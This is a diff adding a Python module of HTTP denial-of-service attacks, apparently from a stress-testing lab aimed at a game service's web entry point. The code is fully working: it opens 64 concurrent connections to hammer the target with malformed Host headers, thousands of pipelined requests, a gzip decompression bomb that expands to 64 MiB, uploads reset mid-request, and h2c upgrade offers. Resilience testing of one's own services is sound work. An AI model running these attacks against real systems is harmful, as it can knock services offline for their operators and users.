@@ -1,0 +1,134 @@
+"""The attacks on the door for browsers. Each opens connections and writes bytes to them."""
+
+import asyncio
+import contextlib
+import gzip
+import random
+import socket
+import struct
+from collections import Counter
+from collections.abc import AsyncIterator, Awaitable, Callable
+from functools import cache
+from typing import Protocol
+
+from lab.siege.places import Place
+
+AT_ONCE = 64
+PIPELINED = 1_000  # Requests that are written at once.
+UPLOAD = bytes(500_000)
+UPLOADS_A_SECOND = 250  # A gigabit.
+CALL = (
+    "/croupier.v1.MatchService/GetView"  # It is refused, which costs little more than to read it.
+)
+_RESET = struct.pack("ii", 1, 0)
+
+
+class WebAttacker(Protocol):
+    """What the attacks need of an attacker."""
+
+    web: str
+    place: Place
+    outcomes: Counter[str]
+
+    async def until_end(self, work: Callable[[], Awaitable[object]], streams: int) -> None:
+        """Does something again and again, in several tasks."""
+
+
+async def bad_hosts(attacker: WebAttacker) -> None:
+    """Asks for pages of hosts whose names are none."""
+    await _ask_on(attacker, _request(attacker, "GET", "/", host="["))
+
+
+async def pipelined_requests(attacker: WebAttacker) -> None:
+    """Writes requests on a few connections without reading the responses."""
+    many = _request(attacker, "POST", CALL, b"{}") * PIPELINED
+
+    async def write() -> None:
+        async with _connection(attacker) as (_, writer):
+            while True:
+                writer.write(many)
+                await writer.drain()
+                attacker.outcomes["written"] += PIPELINED
+
+    await attacker.until_end(write, AT_ONCE)
+
+
+async def bombs(attacker: WebAttacker) -> None:
+    """Makes calls whose requests unpack to 64 MiB."""
+    packed = {"content-encoding": "gzip"}
+    await _ask_on(attacker, _request(attacker, "POST", CALL, _bomb(), **packed))
+
+
+async def aborted_uploads(attacker: WebAttacker) -> None:
+    """Resets each connection in the middle of a request."""
+    said = _request(attacker, "POST", CALL, UPLOAD + b"x")[:-1]
+
+    async def upload() -> None:
+        async with _connection(attacker) as (_, writer):
+            writer.write(said)
+            await writer.drain()
+            attacker.outcomes["aborted"] += 1
+        await asyncio.sleep(random.expovariate(UPLOADS_A_SECOND / AT_ONCE))
+
+    await attacker.until_end(upload, AT_ONCE)
+
+
+async def upgrades(attacker: WebAttacker) -> None:
+    """Makes calls that offer to go on by HTTP/2."""
+    offer = {"connection": "Upgrade, HTTP2-Settings", "upgrade": "h2c", "http2-settings": ""}
+    await _ask_on(attacker, _request(attacker, "POST", CALL, b"{}", **offer))
+
+
+WEB_ATTACKS = (bad_hosts, pipelined_requests, bombs, aborted_uploads, upgrades)
+
+
+@cache
+def _bomb() -> bytes:
+    return gzip.compress(bytes(1 << 26), 9)
+
+
+def _request(
+    attacker: WebAttacker, method: str, path: str, body: bytes = b"", **headers: str
+) -> bytes:
+    sent = {"host": attacker.web, "content-type": "application/json"}
+    sent |= {"content-length": str(len(body))} | dict(attacker.place.metadata) | headers
+    lines = "".join(f"{name}: {text}\r\n" for name, text in sent.items())
+    return f"{method} {path} HTTP/1.1\r\n{lines}\r\n".encode() + body
+
+
+@contextlib.asynccontextmanager
+async def _connection(
+    attacker: WebAttacker,
+) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
+    # A connection that is reset in the end. One that is closed or refused counts, too.
+    host, _, port = attacker.web.rpartition(":")
+    try:
+        reader, writer = await asyncio.open_connection(
+            host, int(port), local_addr=(attacker.place.host, 0)
+        )
+        try:
+            yield reader, writer
+        finally:
+            connected: socket.socket = writer.get_extra_info("socket")
+            connected.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
+            writer.transport.abort()
+    except (OSError, asyncio.IncompleteReadError):
+        attacker.outcomes["connections closed"] += 1
+        await asyncio.sleep(0.02)
+
+
+async def _ask_on(attacker: WebAttacker, said: bytes) -> None:
+    # Sends a request on each of some connections as soon as the one before it is answered.
+    async def ask() -> None:
+        async with _connection(attacker) as (reader, writer):
+            while True:
+                writer.write(said)
+                head = await reader.readuntil(b"\r\n\r\n")
+                attacker.outcomes[head.split(b" ", 2)[1].decode()] += 1
+                if b"content-length: " in head:
+                    size = int(head.partition(b"content-length: ")[2].partition(b"\r\n")[0])
+                    await reader.readexactly(size)
+                else:
+                    await reader.readuntil(b"\r\n0\r\n\r\n")
+
+    await attacker.until_end(ask, AT_ONCE)
